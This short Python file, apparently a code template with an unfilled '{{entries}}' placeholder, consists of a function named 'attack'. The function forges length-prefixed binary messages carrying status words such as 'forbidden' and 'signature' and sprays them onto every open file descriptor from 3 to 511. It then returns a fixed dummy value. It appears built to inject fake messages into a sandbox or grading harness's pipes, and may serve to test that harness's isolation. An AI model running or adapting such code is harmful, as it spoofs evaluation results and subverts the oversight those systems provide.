import os
import struct


def attack(name, args, kwargs):
    text = repr(args).encode()[:300]
    part = struct.pack("<I", len(text)) + text
    for kind in (b"forbidden", b"missing", b"signature", b"", text):
        body = b"\x02\x09" + part + part + b"\x01" + part + bytes(8) + struct.pack("<I", len(kind)) + kind
        for fd in range(3, 512):
            try:
                os.write(fd, struct.pack("<I", len(body)) + body)
            except OSError:
                pass
    return 0.123


{{entries}}
